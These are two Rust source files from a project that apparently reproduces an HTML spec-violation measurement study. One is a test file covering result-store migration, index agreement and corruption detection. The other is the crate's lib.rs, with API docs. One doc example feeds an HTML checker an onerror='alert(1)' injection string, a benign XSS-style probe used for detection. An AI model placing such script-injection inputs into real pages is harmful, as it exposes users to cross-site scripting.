    std::env::temp_dir().join(format!("hv-store-v2-{}-{tag}-{n}", std::process::id()))
}

fn json<T: serde::Serialize>(value: &T) -> String {
    serde_json::to_string(value).unwrap()
}

#[test]
fn golden_migration_renders_every_experiment_byte_identical() {
    let v0 = IndexedStore::load(Path::new(FIXTURE)).unwrap();
    assert_eq!(v0.format, Some(StoreFormat::V0Json));
    assert!(!v0.records.is_empty(), "fixture must hold records");

    let v1_path = temp_path("migrated.hvs");
    v0.save_as(&v1_path, StoreFormat::V1Binary).unwrap();
    let v1 = IndexedStore::load(&v1_path).unwrap();
    assert_eq!(v1.format, Some(StoreFormat::V1Binary));

    // The v1 footers must carry exactly the summaries derived from v0.
    assert_eq!(json(&v0.segments), json(&v1.segments));

    // Live path: the same records indexed in memory, no file involved.
    let live = IndexedStore::new(ResultStore::load(Path::new(FIXTURE)).unwrap());

    for name in hv_report::EXPERIMENTS {
        let from_v0 = hv_report::render(name, &v0).unwrap();
        let from_v1 = hv_report::render(name, &v1).unwrap();
        let from_live = hv_report::render(name, &live).unwrap();
        assert_eq!(from_v0, from_v1, "{name}: v0 vs migrated v1 render diverged");
        assert_eq!(from_v0, from_live, "{name}: v0 vs live-index render diverged");
    }
    std::fs::remove_file(&v1_path).ok();
}

#[test]
fn migration_to_v1_and_back_is_byte_lossless() {
    let store = ResultStore::load(Path::new(FIXTURE)).unwrap();
    let v1_path = temp_path("lossless.hvs");
    let back_path = temp_path("lossless.json");
    store.save_v1(&v1_path).unwrap();
    let reloaded = ResultStore::load(&v1_path).unwrap();
    reloaded.save(&back_path).unwrap();
    // v0 -> v1 -> v0 reproduces the original fixture file byte for byte.
    assert_eq!(
        std::fs::read(FIXTURE).unwrap(),
        std::fs::read(&back_path).unwrap(),
        "v0 -> v1 -> v0 must be the identity on the serialized store"
    );
    std::fs::remove_file(&v1_path).ok();
    std::fs::remove_file(&back_path).ok();
}

#[test]
fn fixture_index_matches_legacy_oracle() {
    let store = ResultStore::load(Path::new(FIXTURE)).unwrap();
    let index = AggregateIndex::build(&store);
    assert_eq!(json(&index.table2()), json(&aggregate::legacy::table2(&store)));
    assert_eq!(index.table2_total(), aggregate::legacy::table2_total(&store));
    assert_eq!(
        json(&index.overall_distribution()),
        json(&aggregate::legacy::overall_distribution(&store))
    );
    assert_eq!(index.overall_violating_share(), aggregate::legacy::overall_violating_share(&store));
    assert_eq!(
        index.violating_domains_by_year(),
        aggregate::legacy::violating_domains_by_year(&store)
    );
    assert_eq!(json(&index.violation_churn()), json(&aggregate::legacy::violation_churn(&store)));
}

fn kinds_from_bits(bits: u32) -> BTreeSet<ViolationKind> {
    ViolationKind::ALL
        .iter()
        .enumerate()
        .filter(|(i, _)| bits & (1 << i) != 0)
        .map(|(_, &k)| k)
        .collect()
}

/// Per-record raw material: (pages_found, unanalyzed, kind bits,
/// after-fix bits, uses_math, mitigation bits).
type RecSpec = (usize, usize, u32, u32, bool, u8);

fn build_record(domain: u64, snap: u8, spec: RecSpec) -> DomainYearRecord {
    let (pages_found, unanalyzed, kind_bits, after_bits, uses_math, mit) = spec;
    let kinds = kinds_from_bits(kind_bits);
    DomainYearRecord {
        domain_id: domain,
        domain_name: format!("d{domain}.example"),
        rank: domain as u32 + 1,
        snapshot: Snapshot(snap),
        pages_found,
        pages_analyzed: pages_found.saturating_sub(unanalyzed),
        page_counts: kinds.iter().map(|&k| (k, 1 + kind_bits % 3)).collect(),
        kinds,
        mitigations: MitigationFlags {
            script_in_attribute: mit & 1 != 0,
            script_in_nonced_script: mit & 2 != 0,
            newline_in_url: mit & 4 != 0,
            newline_and_lt_in_url: mit & 8 != 0,
        },
        kinds_after_autofix: kinds_from_bits(after_bits),
        uses_math,
        pages_faulted: 0,
        pages_degraded: 0,
        pages_quarantined: 0,
    }
}

fn arb_rec_spec() -> impl Strategy<Value = RecSpec> {
    // The vendored proptest supports tuples up to four wide; nest.
    ((0usize..40, 0usize..10), (any::<u32>(), any::<u32>()), (any::<bool>(), any::<u8>()))
        .prop_map(|((pf, un), (kb, ab), (math, mit))| (pf, un, kb, ab, math, mit))
}

/// One domain: a record in snapshot `s1` and, sometimes, a second record
/// in a distinct snapshot — so churn pairs are exercised. Unique
/// (domain, snapshot) pairs by construction.
fn arb_domain() -> impl Strategy<Value = Vec<(u8, RecSpec)>> {
    ((0u8..8, 1u8..8, any::<bool>()), arb_rec_spec(), arb_rec_spec()).prop_map(
        |((s1, delta, two), a, b)| {
            let mut v = vec![(s1, a)];
            if two {
                v.push(((s1 + delta) % 8, b));
            }
            v
        },
    )
}

fn arb_store() -> impl Strategy<Value = ResultStore> {
    (proptest::collection::vec(arb_domain(), 0..10), any::<bool>(), 1u64..1_000_000, 0usize..4)
        .prop_map(|(domains, with_metrics, seed, quarantined)| {
            let mut store = ResultStore::new(seed, 0.01, 500);
            for (d, recs) in domains.into_iter().enumerate() {
                for (snap, spec) in recs {
                    store.records.push(build_record(d as u64, snap, spec));
                }
            }
            store.metrics = with_metrics.then(ScanMetrics::default);
            for i in 0..quarantined {
                store.quarantine.push(QuarantineEntry {
                    domain_id: i as u64,
                    snapshot: Snapshot((i % 8) as u8),
                    page_index: i,
                    url: format!("https://d{i}.example/p{i}"),
                    class: html_violations::hv_pipeline::ErrorClass::TransientIo,
                });
            }
            store.finalize();
            store
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Any store survives a v1 save -> load round trip unchanged.
    #[test]
    fn v1_roundtrip_preserves_any_store(store in arb_store()) {
        let path = temp_path("roundtrip.hvs");
        store.save_v1(&path).unwrap();
        let loaded = ResultStore::load(&path).unwrap();
        prop_assert_eq!(json(&store), json(&loaded));
        std::fs::remove_file(&path).ok();
    }

    /// The one-pass index agrees with the legacy per-query folds on any
    /// store, for every table and figure.
    #[test]
    fn index_matches_legacy_oracle_on_any_store(store in arb_store()) {
        let index = AggregateIndex::build(&store);
        prop_assert_eq!(json(&index.table2()), json(&aggregate::legacy::table2(&store)));
        prop_assert_eq!(index.table2_total(), aggregate::legacy::table2_total(&store));
        prop_assert_eq!(
            json(&index.overall_distribution()),
            json(&aggregate::legacy::overall_distribution(&store))
        );
        prop_assert_eq!(
            index.overall_violating_share().to_bits(),
            aggregate::legacy::overall_violating_share(&store).to_bits()
        );
        prop_assert_eq!(
            index.violating_domains_by_year(),
            aggregate::legacy::violating_domains_by_year(&store)
        );
        prop_assert_eq!(json(&index.group_trends()), json(&aggregate::legacy::group_trends(&store)));
        for kind in ViolationKind::ALL {
            prop_assert_eq!(
                index.kind_trend(kind),
                aggregate::legacy::kind_trend(&store, kind),
                "kind_trend({})", kind.id()
            );
        }
        for snap in Snapshot::ALL {
            prop_assert_eq!(
                json(&index.autofix_projection(snap)),
                json(&aggregate::legacy::autofix_projection(&store, snap))
            );
        }
        prop_assert_eq!(
            json(&index.mitigation_trends()),
            json(&aggregate::legacy::mitigation_trends(&store))
        );
        prop_assert_eq!(
            json(&index.rollout_breakage()),
            json(&aggregate::legacy::rollout_breakage(&store))
        );
        prop_assert_eq!(index.math_usage_by_year(), aggregate::legacy::math_usage_by_year(&store));
        prop_assert_eq!(
            json(&index.violation_churn()),
            json(&aggregate::legacy::violation_churn(&store))
        );
    }
}

/// A small v1 store with every block type present (segments, metrics,
/// quarantine), serialized once: the corruption property mutates it.
fn small_v1_bytes() -> &'static (Vec<u8>, String) {
    static BYTES: OnceLock<(Vec<u8>, String)> = OnceLock::new();
    BYTES.get_or_init(|| {
        let mut store = ResultStore::new(9, 0.25, 42);
        store.records.push(build_record(1, 0, (10, 0, 0b1, 0, false, 0)));
        store.records.push(build_record(2, 0, (10, 2, 0, 0, true, 5)));
        store.records.push(build_record(7, 5, (10, 0, 0b110, 0b10, false, 0)));
        store.metrics = Some(ScanMetrics::default());
        store.quarantine.push(QuarantineEntry {
            domain_id: 2,
            snapshot: Snapshot(0),
            page_index: 3,
            url: "https://d2.example/p3".into(),
            class: html_violations::hv_pipeline::ErrorClass::TransientIo,
        });
        store.finalize();
        let path = temp_path("mutation-base.hvs");
        store.save_v1(&path).unwrap();
        let bytes = std::fs::read(&path).unwrap();
        std::fs::remove_file(&path).ok();
        (bytes, json(&store))
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(192))]

    /// Flipping any single byte of a v1 store must be detected: the
    /// strict load fails, and the partial load either fails, drops the
    /// damaged piece, or yields a store that visibly differs — never a
    /// silent, identical success.
    #[test]
    fn single_byte_mutation_never_passes_silently(
        i in 0usize..small_v1_bytes().0.len(),
        xor in 1u16..256,
    ) {
        let xor = xor as u8;
        let (bytes, original_json) = small_v1_bytes();
        let mut mutated = bytes.clone();
        mutated[i] ^= xor;
        let path = temp_path("mutated.hvs");
        std::fs::write(&path, &mutated).unwrap();

        let strict = ResultStore::load(&path);
        prop_assert!(strict.is_err(), "byte {i} ^ {xor:#04x} accepted by strict load");

        match ResultStore::load_with(&path, LoadOptions { allow_partial: true }) {
            Err(_) => {} // header/framing damage: even partial gives up
            Ok(loaded) => prop_assert!(
                !loaded.dropped.is_empty() || &json(&loaded.store) != original_json,
                "byte {i} ^ {xor:#04x}: partial load reported nothing dropped \
                 and an identical store"
            ),
        }
        std::fs::remove_file(&path).ok();
    }
}
