//! # html-violations — reproduction of *HTML Violations and Where to Find
//! Them* (IMC '22)
//!
//! This facade crate re-exports the workspace's public API in one place:
//!
//! * [`spec_html`] — the WHATWG HTML parsing substrate with parse-error
//!   reporting (tokenizer, tree builder, DOM, serializer).
//! * [`hv_core`] — the paper's contribution: the 20-check violation
//!   taxonomy, the checker battery, the §4.4 auto-fixer, and the §4.5
//!   mitigation analyzers.
//! * [`hv_corpus`] — the deterministic synthetic web archive standing in
//!   for Tranco + Common Crawl, calibrated to the paper's published rates.
//! * [`hv_pipeline`] — the Figure-6 measurement pipeline, the segmented
//!   result store (v0 JSON + checksummed v1 binary), and the one-pass
//!   aggregate index behind every table and figure.
//! * [`hv_report`] — text renderers regenerating Tables 1–2, Figures 8–10
//!   and 16–21, and the §4.2/§4.4/§4.5 statistics.
//! * [`hv_server`] — `hva serve`: the HTTP service layer with the stable
//!   `/v1` wire API over the battery, auto-fixer, and report renderers.
//! * [`hv_fuzz`] — `hva fuzz`: deterministic differential fuzzing — a
//!   seeded structure-aware HTML generator, an oracle registry of
//!   cross-implementation invariants, and ddmin shrinking into replayable
//!   regression fixtures.
//!
//! ## Thirty-second tour
//!
//! ```
//! use html_violations::prelude::*;
//!
//! // Check one document: build a battery once, run it many times.
//! let mut battery = Battery::full();
//! let report = battery.run_str(r#"<img src="logo.png"onerror="alert(1)">"#);
//! assert!(report.has(ViolationKind::FB2));
//!
//! // Fix what can be fixed automatically (§4.4).
//! let fixed = auto_fix(r#"<img src="logo.png"onerror="alert(1)">"#);
//! assert!(fixed.after.is_empty());
//!
//! // Run a miniature version of the eight-year study. The one-pass
//! // AggregateIndex answers every table/figure query without re-folding
//! // the record set.
//! let archive = Archive::new(CorpusConfig { seed: 7, scale: 0.002 });
//! let store = IndexedStore::new(scan(&archive, ScanOptions::default()));
//! let any_2022 = store.index.violating_domains_by_year()[7];
//! assert!(any_2022 > 30.0, "most of the web violates the spec");
//! ```
//!
//! ## Serving the API
//!
//! ```no_run
//! use html_violations::prelude::*;
//!
//! let server = hv_server::serve(ServeOptions::new().addr("127.0.0.1:8077")).unwrap();
//! println!("serving http://{}", server.addr());
//! // POST /v1/check with {"html": "..."} returns a CheckResponse.
//! server.shutdown();
//! ```

pub use hv_core;
pub use hv_corpus;
pub use hv_fuzz;
pub use hv_pipeline;
pub use hv_report;
pub use hv_server;
pub use spec_html;

/// Everything needed for the common workflows.
pub mod prelude {
    pub use hv_core::autofix::{auto_fix, FixOutcome};
    pub use hv_core::{
        Battery, Finding, HvError, MitigationFlags, PageReport, ProblemGroup, ViolationKind,
    };
    pub use hv_corpus::{Archive, CorpusConfig, Snapshot};
    pub use hv_pipeline::{scan, IndexedStore, LoadOptions, ResultStore, ScanOptions, StoreFormat};
    pub use hv_server::api::v1::{
        CheckRequest, CheckResponse, ErrorBody, ExplainResponse, FindingDto, FixResponse,
        MitigationsDto, StoreSummary,
    };
    pub use hv_server::{serve, ServeOptions};
    pub use spec_html::{parse_document, serializer::serialize};

    /// Deprecated one-shot shim, kept for one release; use
    /// [`Battery::full`] + [`Battery::run_str`].
    #[allow(deprecated)]
    pub use hv_core::checkers::check_page;
}
